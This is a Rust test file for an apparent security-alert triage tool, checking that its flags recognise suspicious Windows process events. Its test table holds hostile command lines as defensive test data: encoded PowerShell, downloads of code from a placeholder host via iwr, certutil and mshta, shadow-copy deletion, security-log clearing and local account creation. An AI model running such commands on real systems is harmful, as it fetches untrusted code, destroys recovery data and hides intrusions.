//! What code sees in an event by itself: real attacks carry such a flag, ordinary work does not.
use fusionsoc::domain::dossier::{Dossier, Precedents, Prevalence};
use fusionsoc::domain::{Answer, Detection, MachineVerdict, Severity, Vote, VoteState, Weights};
use fusionsoc::triage::flags::{self, Said};
use fusionsoc::triage::report;
use fusionsoc::triage::vote::{Mode, Panel, count};
use serde_json::{Value, json};

const RECORDED: &str = include_str!("../fixtures/demo/detections.jsonl");

fn vote(verdict: MachineVerdict) -> Vote {
    let text = String::new;
    let answer = Answer {
        what_happened: text(),
        evidence_malicious: text(),
        evidence_benign: text(),
        missing_information: text(),
        ioc_analysis: text(),
        verdict,
        false_positive_reason: text(),
        severity: Severity::Low,
        risk_score: 5,
        mitre_techniques: Vec::new(),
        iocs: Vec::new(),
        recommended_actions: Vec::new(),
        investigation_questions: Vec::new(),
        confidence: 0.95,
    };
    Vote { voter: "m".to_owned(), state: VoteState::Ok, failure: None, answer: Some(answer) }
}

/// What is seen where the panel says this.
fn seen(document: &Value, verdict: MachineVerdict) -> Vec<String> {
    let dossier = Dossier {
        detection: Detection::read(document).unwrap(),
        observables: Vec::new(),
        precedents: Precedents::default(),
        prevalence: Prevalence::default(),
        intel: Vec::new(),
        evidence: Vec::new(),
        local: None,
    };
    let panel = [vote(verdict), vote(verdict)];
    let counted = count(Panel { mode: Mode::Unanimous, quorum: 0 }, &panel, &Weights::default(), Severity::Low);
    let report = report::report(&counted, Mode::Unanimous, &panel, &dossier);
    let all = flags::of(&dossier, &report, Said { panel: &panel, advisers: &[], claims: &[] }, &[]);
    all.into_iter().filter(|(kind, _)| *kind == "seen").map(|(_, text)| text).collect()
}

fn process(path: &str, command: &str, parent: &str) -> Value {
    let event = json!({"FILE_PATH": path, "COMMAND_LINE": command, "PARENT": {"FILE_PATH": parent}});
    json!({"detect_id": "a", "routing": {"event_type": "NEW_PROCESS", "hostname": "h"}, "detect": {"event": event}})
}

fn heads(document: &Value) -> Vec<String> {
    let texts = seen(document, MachineVerdict::FalsePositive);
    texts.iter().map(|text| text.split('.').next().unwrap().to_owned()).collect()
}

#[test]
fn each_sign_is_told_by_its_name() {
    let table = [
        ("C:\\a\\powershell.exe", "powershell.exe -NoP -Enc SQBFAFgA", "C:\\a\\explorer.exe", "Hidden command"),
        ("C:\\a\\powershell.exe", "p^ower^shell -c iwr http://x/a.ps1", "C:\\a\\explorer.exe", "Download"),
        ("C:\\a\\certutil.exe", "certutil  -urlcache -f http://x/a a.exe", "C:\\a\\cmd.exe", "Download"),
        ("C:\\a\\mshta.exe", "mshta \"http://x/a.hta\"", "C:\\a\\explorer.exe", "Other people's code"),
        ("C:\\a\\cmd.exe", "cmd /c whoami", "C:\\inetpub\\w3wp.exe", "Unusual parent"),
        ("C:\\a\\vssadmin.exe", "vssadmin delete shadows /all", "C:\\a\\cmd.exe", "Recovery"),
        ("C:\\a\\wevtutil.exe", "wevtutil cl Security", "C:\\a\\cmd.exe", "Traces"),
        ("C:\\Users\\Public\\a.exe", "a.exe", "C:\\a\\explorer.exe", "Odd place"),
        ("C:\\a\\net1.exe", "net1 user eve pw /add", "C:\\a\\net.exe", "Account"),
    ];
    for (path, command, parent, head) in table {
        let told = heads(&process(path, command, parent));
        assert!(told.iter().any(|known| known == head), "{command}: {told:?}");
    }
    let plain = process("C:\\Windows\\System32\\lsass.exe", "C:\\windows\\system32\\lsass.exe", "C:\\a\\wininit.exe");
    assert_eq!(heads(&plain), Vec::<String>::new(), "a program of the system is no sign by its name");
}

#[test]
fn a_flag_argues_only_against_a_false_positive() {
    let download = process("C:\\a\\mshta.exe", "mshta http://x/a.hta", "C:\\a\\explorer.exe");
    assert!(seen(&download, MachineVerdict::TruePositive).is_empty());
    assert!(!seen(&download, MachineVerdict::FalsePositive).is_empty());
}

#[test]
fn most_recorded_attacks_carry_one_and_most_recorded_work_carries_none() {
    let (mut attacks, mut work) = ((0, 0), (0, 0));
    for line in RECORDED.lines() {
        let line: Value = serde_json::from_str(line).unwrap();
        let told = usize::from(!seen(&line["detection"], MachineVerdict::FalsePositive).is_empty());
        let sum = if line["label"] == "true_positive" { &mut attacks } else { &mut work };
        *sum = (sum.0 + told, sum.1 + 1);
    }
    assert!(attacks.0 * 10 >= attacks.1 * 9, "{attacks:?} attacks");
    assert!(work.0 * 5 <= work.1, "{work:?} of ordinary work");
}
